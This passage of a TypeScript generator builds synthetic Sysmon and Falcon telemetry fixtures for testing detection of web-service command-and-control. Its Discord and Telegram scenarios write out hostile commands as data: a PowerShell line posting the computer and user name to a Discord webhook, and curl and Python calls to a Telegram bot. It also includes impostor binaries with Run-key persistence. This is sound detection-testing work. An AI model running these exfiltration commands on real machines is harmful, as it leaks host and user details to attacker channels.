        cmd: `powershell.exe -NoProfile -ExecutionPolicy Bypass -Command "$b=@{content=\\"$env:COMPUTERNAME|$env:USERNAME\\"}|ConvertTo-Json; Invoke-RestMethod -Uri 'https://discord.com/${webhook}' -Method Post -ContentType 'application/json' -Body $b; Invoke-RestMethod -Uri 'https://discordapp.com/${webhook}' -Method Post -ContentType 'application/json' -Body $b"`,
        user,
        parent: 'explorer',
        start: '15:27:40.331',
        pid: 9904,
      },
      conhost: {
        image: CONHOST,
        cmd: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
        user,
        parent: 'ps',
        start: '15:27:40.352',
        pid: 9912,
      },
      gh: {
        image: PS,
        cmd: `"${PS}" -NoProfile -Command "Invoke-WebRequest -Uri 'https://github.com/cli/cli/releases/download/v2.55.0/gh_2.55.0_windows_amd64.zip' -OutFile $env:TEMP\\gh.zip"`,
        user,
        parent: 'explorer',
        start: '15:33:05.870',
        pid: 10536,
      },
      outlook: {
        image: outlook,
        cmd: `"${outlook}" `,
        user,
        parent: 'explorer',
        start: '2024-08-20T08:16:02.731Z',
        pid: 6604,
      },
      impostor: {
        image: impostor,
        cmd: `"${impostor}" --startup`,
        user,
        parent: 'outlook',
        start: '15:41:17.402',
        pid: 11220,
      },
    },
    steps: [
      { t: 'start', p: 'discord', sysmon: false, falcon: 'synthetic', at: '15:20:00.005' },
      { t: 'start', p: 'slack', sysmon: false, falcon: 'synthetic', at: '15:20:00.013' },
      { t: 'start', p: 'msedge', sysmon: false, falcon: 'synthetic', at: '15:20:00.021' },
      { t: 'start', p: 'outlook', sysmon: false, falcon: 'synthetic', at: '15:20:00.034' },
      {
        t: 'dns',
        p: 'discord',
        at: '15:21:48.310',
        name: 'discord.com',
        ips: [
          '162.159.137.232',
          '162.159.128.233',
          '162.159.135.232',
          '162.159.136.232',
          '162.159.138.232',
        ],
      },
      { t: 'net', p: 'discord', at: '15:21:48.333', ip: '162.159.137.232' },
      {
        t: 'dns',
        p: 'discord',
        at: '15:21:49.020',
        name: 'cdn.discordapp.com',
        ips: ['162.159.129.233', '162.159.130.233'],
      },
      { t: 'net', p: 'discord', at: '15:21:49.041', ip: '162.159.129.233' },
      // Discord, Slack and Edge at their homes are excluded clients (rule v2 lists slack.com,
      // so app.slack.com is a listed name here).
      {
        t: 'dns',
        p: 'slack',
        at: '15:22:10.775',
        name: 'app.slack.com',
        cnames: ['app.slack.com.cdn.cloudflare.net'],
        ips: ['104.18.30.23'],
      },
      { t: 'net', p: 'slack', at: '15:22:10.798', ip: '104.18.30.23' },
      {
        t: 'dns',
        p: 'msedge',
        at: '15:25:02.143',
        name: 'cdn.discordapp.com',
        ips: ['162.159.130.233', '162.159.129.233'],
      },
      { t: 'net', p: 'msedge', at: '15:25:02.160', ip: '162.159.130.233' },
      {
        t: 'dns',
        p: 'msedge',
        at: '15:25:30.511',
        name: 'raw.githubusercontent.com',
        ips: ['185.199.111.133', '185.199.108.133', '185.199.109.133', '185.199.110.133'],
      },
      {
        t: 'net',
        p: 'msedge',
        at: '15:25:30.529',
        ip: '185.199.111.133',
        rdns: 'cdn-185-199-111-133.github.com',
      },
      // The command line names both webhook hosts: two process-start events (rule v2).
      { t: 'start', p: 'ps', expect: ['discord.com', 'discordapp.com'] },
      { t: 'start', p: 'conhost' },
      { t: 'access', p: 'msmpeng', target: 'ps', at: '15:27:40.610', access: '0x101000' },
      { t: 'load', p: 'ps', at: '15:27:40.702', dll: 'winhttp' },
      // The connection is written before the DNS event that names it (Sysmon's DNS events come
      // from an ETW consumer and can lag behind): the join must not depend on file order.
      { t: 'net', p: 'ps', at: '15:27:41.062', ip: '162.159.138.232', expect: 'discord.com' },
      {
        t: 'dns',
        p: 'ps',
        at: '15:27:41.048',
        name: 'discord.com',
        ips: [
          '162.159.128.233',
          '162.159.135.232',
          '162.159.136.232',
          '162.159.137.232',
          '162.159.138.232',
        ],
        expect: 'discord.com',
      },
      {
        t: 'dns',
        p: 'ps',
        at: '15:27:41.702',
        name: 'discordapp.com',
        ips: [
          '162.159.129.233',
          '162.159.130.233',
          '162.159.133.233',
          '162.159.134.233',
          '162.159.135.232',
        ],
        expect: 'discordapp.com',
      },
      // 162.159.135.232 answered both listed names for this process: SPEC §2 picks the
      // alphabetically first listed one, discord.com.
      { t: 'net', p: 'ps', at: '15:27:41.719', ip: '162.159.135.232', expect: 'discord.com' },
      { t: 'end', p: 'conhost', at: '15:27:42.511' },
      { t: 'end', p: 'ps', at: '15:27:42.530' },
      // PowerShell downloading a GitHub release: github.com (medium) in its command line and its
      // query, then the release CDN objects.githubusercontent.com (high) on the very address
      // Edge resolved for raw.githubusercontent.com. Rule v2 lists both, so this now alerts.
      // Sysmon's reverse names end in .github.com: listed, so each connection keeps its own
      // reverse name (SPEC §2 joins only a missing or unlisted name). Falcon has no reverse
      // name: each connection is named by this process's own answer, never by Edge's.
      { t: 'start', p: 'gh', expect: ['github.com'] },
      {
        t: 'dns',
        p: 'gh',
        at: '15:33:06.402',
        name: 'github.com',
        ips: ['140.82.121.4'],
        expect: 'github.com',
      },
      {
        t: 'net',
        p: 'gh',
        at: '15:33:06.418',
        ip: '140.82.121.4',
        rdns: 'lb-140-82-121-4-fra.github.com',
        expect: { sysmon: 'lb-140-82-121-4-fra.github.com', falcon: 'github.com' },
      },
      {
        t: 'dns',
        p: 'gh',
        at: '15:33:06.930',
        name: 'objects.githubusercontent.com',
        ips: ['185.199.111.133', '185.199.108.133', '185.199.109.133', '185.199.110.133'],
        expect: 'objects.githubusercontent.com',
      },
      {
        t: 'net',
        p: 'gh',
        at: '15:33:06.947',
        ip: '185.199.111.133',
        rdns: 'cdn-185-199-111-133.github.com',
        expect: {
          sysmon: 'cdn-185-199-111-133.github.com',
          falcon: 'objects.githubusercontent.com',
        },
      },
      {
        t: 'file',
        p: 'gh',
        at: '15:33:09.260',
        path: 'C:\\Users\\mlee\\AppData\\Local\\Temp\\gh.zip',
      },
      { t: 'end', p: 'gh', at: '15:33:09.402' },
      {
        t: 'reg',
        p: 'explorer',
        at: '15:34:00.118',
        key: `HKU\\${userSid(sid, user)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.zip`,
        value: 'MRUListEx',
        details: 'Binary Data',
      },
      {
        t: 'dns',
        p: 'discord',
        at: '15:36:12.902',
        name: 'discord.com',
        ips: ['162.159.135.232', '162.159.136.232'],
      },
      { t: 'net', p: 'discord', at: '15:36:12.921', ip: '162.159.135.232' },
      // An impostor: slack.exe in AppData\Roaming, opened from Outlook. Slack lives under \slack\,
      // so this one is not an excluded client (rule v2). Outlook is an Office parent (branch b),
      // which also makes medium-tier slack.com match; hooks.slack.com is high tier (the longest
      // listed domain it ends with) and the path is user-writable (branch c as well).
      { t: 'start', p: 'impostor' },
      { t: 'access', p: 'msmpeng', target: 'impostor', at: '15:41:17.690', access: '0x101000' },
      {
        t: 'dns',
        p: 'impostor',
        at: '15:41:18.204',
        name: 'slack.com',
        ips: ['54.174.193.102', '3.95.117.96'],
        expect: 'slack.com',
      },
      { t: 'net', p: 'impostor', at: '15:41:18.229', ip: '54.174.193.102', expect: 'slack.com' },
      {
        t: 'dns',
        p: 'impostor',
        at: '15:41:19.016',
        name: 'hooks.slack.com',
        ips: ['34.225.241.48', '52.6.112.19'],
        expect: 'hooks.slack.com',
      },
      {
        t: 'net',
        p: 'impostor',
        at: '15:41:19.040',
        ip: '34.225.241.48',
        expect: 'hooks.slack.com',
      },
      {
        t: 'reg',
        p: 'impostor',
        at: '15:41:19.522',
        key: `HKU\\${userSid(sid, user)}\\${RUN_KEY}`,
        value: 'Slack',
        details: `"${impostor}" --startup`,
      },
    ],
  };
}

/** Test 5: Telegram Bot API C2 from Python (DEV-WS-21, CORP\rpatel). */
function telegramScenario(): Scenario {
  const user = 'CORP\\rpatel';
  const base = windowsHostBase('t1102-05-telegram-bot-python', user);
  const sid = 'S-1-5-21-4102351187-2240913566-1386711032';
  const python = 'C:\\Users\\rpatel\\AppData\\Local\\Programs\\Python\\Python312\\python.exe';
  const node = 'C:\\Program Files\\nodejs\\node.exe';
  const code = 'C:\\Users\\rpatel\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe';
  const telegram = 'C:\\Users\\rpatel\\AppData\\Roaming\\Telegram Desktop\\Telegram.exe';
  const dropbox = 'C:\\Program Files (x86)\\Dropbox\\Client\\Dropbox.exe';
  const token = '7351984262:AAHk3v9QbZ1xwLpE0sD4fGhJ';
  const implant = 'C:\\Users\\rpatel\\AppData\\Roaming\\Microsoft\\Network\\RuntimeBroker.exe';
  return {
    ...base,
    date: '2024-10-29',
    host: 'DEV-WS-21',
    hostIp: '10.20.21.130',
    domainSid: sid,
    aid: '3d8b6f1a2c4e45d9b7a0c1e2f3d4b5a6',
    guidPrefix: '51d0a3b9',
    guidTail: '000000000e00',
    firstRecordId: 402_733,
    sysmonPid: 3412,
    sysmonTid: 4108,
    sysmonDnsTid: 7204,
    aidmasterFirst: false,
    volume: '\\Device\\HarddiskVolume3',
    procs: {
      ...base.procs,
      unknown: {
        image: '<unknown process>',
        cmd: '',
        user: '-',
        start: '2024-10-29T00:00:00.000Z',
        pid: 11872,
        unknown: true,
      },
      cmd: {
        image: CMD,
        cmd: `"${CMD}" `,
        user,
        parent: 'explorer',
        start: '07:50:03.440',
        pid: 6912,
      },
      pip: {
        image: python,
        cmd: 'python.exe -m pip install --upgrade requests',
        user,
        parent: 'cmd',
        start: '07:52:10.440',
        pid: 7320,
      },
      python: {
        image: python,
        cmd: `python.exe -c "import requests;t='${token}';[requests.get(f'https://api.telegram.org/bot{t}/getUpdates',timeout=10) for _ in range(2)]"`,
        user,
        parent: 'cmd',
        start: '07:55:31.004',
        pid: 8804,
      },
      curl: {
        image: 'C:\\Windows\\System32\\curl.exe',
        cmd: `curl.exe -s -X POST "https://API.Telegram.org/bot${token}/sendMessage" -d chat_id=-1002183 -d text=DEV-WS-21`,
        user,
        parent: 'cmd',
        start: '07:58:14.220',
        pid: 9016,
      },
      code: {
        image: code,
        cmd: `"${code}" `,
        user,
        parent: 'explorer',
        start: '2024-10-29T07:31:55.020Z',
        pid: 5120,
      },
      node: {
        image: node,
        cmd: `"${node}" C:\\Users\\rpatel\\src\\notion-sync\\index.js`,
        user,
        parent: 'code',
        start: '08:03:40.517',
        pid: 10288,
      },
      telegram: {
        image: telegram,
        cmd: `"${telegram}" -autostart`,
        user,
        parent: 'explorer',
        start: '2024-10-29T07:20:12.305Z',
        pid: 4780,
      },
      dropbox: {
        image: dropbox,
        cmd: `"${dropbox}" /systemstartup`,
        user,
        parent: 'explorer',
        start: '2024-10-29T07:20:13.118Z',
        pid: 4816,
      },
      implant: {
        image: implant,
        cmd: `"${implant}" -Embedding`,
        user,
        parent: 'svchost',
        start: '08:06:00.114',
        pid: 10904,
      },
    },
    steps: [
      { t: 'start', p: 'telegram', sysmon: false, falcon: 'synthetic', at: '07:45:00.004' },
      { t: 'start', p: 'dropbox', sysmon: false, falcon: 'synthetic', at: '07:45:00.015' },
      { t: 'start', p: 'code', sysmon: false, falcon: 'synthetic', at: '07:45:00.027' },
      { t: 'start', p: 'cmd' },
      // pip on the same interpreter: python.exe, but no listed host.
      { t: 'start', p: 'pip' },
      {
        t: 'dns',
        p: 'pip',
        at: '07:52:11.302',
        name: 'pypi.org',
        ips: ['151.101.0.223', '151.101.64.223'],
      },
      { t: 'net', p: 'pip', at: '07:52:11.320', ip: '151.101.0.223' },
      {
        t: 'dns',
        p: 'pip',
        at: '07:52:11.866',
        name: 'files.pythonhosted.org',
        cnames: ['dualstack.python.map.fastly.net'],
        ips: ['151.101.128.223'],
      },
      { t: 'net', p: 'pip', at: '07:52:11.884', ip: '151.101.128.223' },
      {
        t: 'file',
        p: 'pip',
        at: '07:52:13.020',
        path: 'C:\\Users\\rpatel\\AppData\\Local\\Programs\\Python\\Python312\\Scripts\\normalizer.exe',
      },
      { t: 'end', p: 'pip', at: '07:52:14.611' },
      // Telegram Desktop polling the Bot API host: it lives in AppData, which branch c would match
      // with this high-tier host, but it is an excluded client where it lives (\telegram desktop\).
      {
        t: 'dns',
        p: 'telegram',
        at: '07:53:40.004',
        name: 'api.telegram.org',
        ips: ['149.154.167.220'],
      },
      { t: 'net', p: 'telegram', at: '07:53:40.027', ip: '149.154.167.220' },
      // The test: python.exe polling getUpdates twice.
      // The URL in its command line makes the start an event too (rule v2).
      { t: 'start', p: 'python', expect: ['api.telegram.org'] },
      { t: 'access', p: 'msmpeng', target: 'python', at: '07:55:31.301', access: '0x1000' },
      { t: 'load', p: 'python', at: '07:55:31.420', dll: 'ssl' },
      {
        t: 'dns',
        p: 'python',
        at: '07:55:31.612',
        name: 'api.telegram.org',
        ips: ['149.154.167.220'],
        expect: 'api.telegram.org',
      },
      {
        t: 'net',
        p: 'python',
        at: '07:55:31.640',
        ip: '149.154.167.220',
        expect: 'api.telegram.org',
      },
      {
        t: 'dns',
        p: 'python',
        at: '07:55:32.118',
        name: 'api.telegram.org',
        ips: ['149.154.167.220'],
        expect: 'api.telegram.org',
      },
      {
        t: 'net',
        p: 'python',
        at: '07:55:32.135',
        ip: '149.154.167.220',
        expect: 'api.telegram.org',
      },
      { t: 'end', p: 'python', at: '07:55:32.880' },
      // curl keeps the host's case as typed, in its command line and its query: grouping
      // lower-cases it.
      { t: 'start', p: 'curl', expect: ['api.telegram.org'] },
      {
        t: 'dns',
        p: 'curl',
        at: '07:58:14.281',
        name: 'API.Telegram.org',
        ips: ['149.154.167.220'],
        expect: 'api.telegram.org',
      },
      {
        t: 'net',
        p: 'curl',
        at: '07:58:14.302',
        ip: '149.154.167.220',
        expect: 'api.telegram.org',
      },
      { t: 'end', p: 'curl', at: '07:58:14.733' },
      {
        t: 'dns',
        p: 'dropbox',
        at: '08:01:05.440',
        name: 'api.dropboxapi.com',
        cnames: ['api.dropboxapi.com-v2.dropbox-dns.com'],
        ips: ['162.125.6.19'],
      },
      { t: 'net', p: 'dropbox', at: '08:01:05.462', ip: '162.125.6.19' },
      {
        t: 'dns',
        p: 'dropbox',
        at: '08:01:06.118',
        name: 'content.dropboxapi.com',
        cnames: ['edge-block-api-env1.dropbox-dns.com'],
        ips: ['162.125.6.14'],
      },
      { t: 'net', p: 'dropbox', at: '08:01:06.140', ip: '162.125.6.14' },
      // Node.js syncing Notion: api.notion.com is listed (the current Notion API host);
      // www.notion.so is not (only api.notion.so is).
      { t: 'start', p: 'node' },
      {
        t: 'dns',
        p: 'node',
        at: '08:03:41.105',
        name: 'api.notion.com',
        ips: ['104.18.39.120', '172.64.148.136'],
        expect: 'api.notion.com',
      },
      { t: 'net', p: 'node', at: '08:03:41.131', ip: '104.18.39.120', expect: 'api.notion.com' },
      { t: 'dns', p: 'node', at: '08:03:41.380', name: 'www.notion.so', ips: ['104.18.23.110'] },
      { t: 'net', p: 'node', at: '08:03:41.402', ip: '104.18.23.110' },
      {
        t: 'file',
        p: 'node',
        at: '08:03:42.010',
        path: 'C:\\Users\\rpatel\\src\\notion-sync\\cache\\pages.json',
      },
      {
        t: 'reg',
        p: 'svchost',
        at: '08:05:20.551',
        key: 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan',
        value: 'Index',
        details: 'DWORD (0x00000003)',
      },
      // A dropped implant in %APPDATA% run by a scheduled task, posing as RuntimeBroker.exe: not
      // suspicious, parent svchost.exe, but a user-writable path talking to high-tier Telegram
      // hosts (the Bot API and a t.me channel page as a dead drop): branch c (rule v2).
      { t: 'start', p: 'implant' },
      {
        t: 'dns',
        p: 'implant',
        at: '08:06:01.302',
        name: 't.me',
        ips: ['149.154.167.99'],
        expect: 't.me',
      },
      { t: 'net', p: 'implant', at: '08:06:01.327', ip: '149.154.167.99', expect: 't.me' },
      {
        t: 'dns',
        p: 'implant',
        at: '08:06:02.118',
        name: 'api.telegram.org',
        ips: ['149.154.167.220'],
        expect: 'api.telegram.org',
      },
      {
        t: 'net',
        p: 'implant',
        at: '08:06:02.141',
        ip: '149.154.167.220',
        expect: 'api.telegram.org',
      },
      // A short-lived process Sysmon could not name: nothing can be said about it.
      {
        t: 'dns',
        p: 'unknown',
        at: '08:10:02.771',
        name: 'api.telegram.org',
        ips: ['149.154.167.220'],
      },
      { t: 'net', p: 'unknown', at: '08:10:02.790', ip: '149.154.167.220' },
    ],
  };
}

// ---------------------------------------------------------------------------------------------
// Main
// ---------------------------------------------------------------------------------------------

function write(path: string, content: string | Buffer): void {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, content);
}

const scenarios = [
  pastebinScenario(),
  graphScenario(),
  linuxCurlScenario(),
  discordScenario(),
  telegramScenario(),
];

for (const s of scenarios) {
  const sysmon = renderSysmon(s);
  const { text: falcon, startTimes } = renderFalcon(s);
  write(join(OUT_DIR, 'sysmon', `${s.name}.xml.gz`), gzipSync(sysmon));
  write(join(OUT_DIR, 'falcon', `${s.name}.fdr.ndjson.gz`), gzipSync(falcon));
  write(join(OUT_DIR, 'expected', `${s.name}.xml.csv`), expectedCsv(s, 'sysmon', startTimes));
  write(
    join(OUT_DIR, 'expected', `${s.name}.fdr.ndjson.csv`),
    expectedCsv(s, 'falcon', startTimes),
  );
  console.log(
    `${s.name}: sysmon ${Buffer.byteLength(sysmon)} B, falcon ${Buffer.byteLength(falcon)} B`,
  );
}
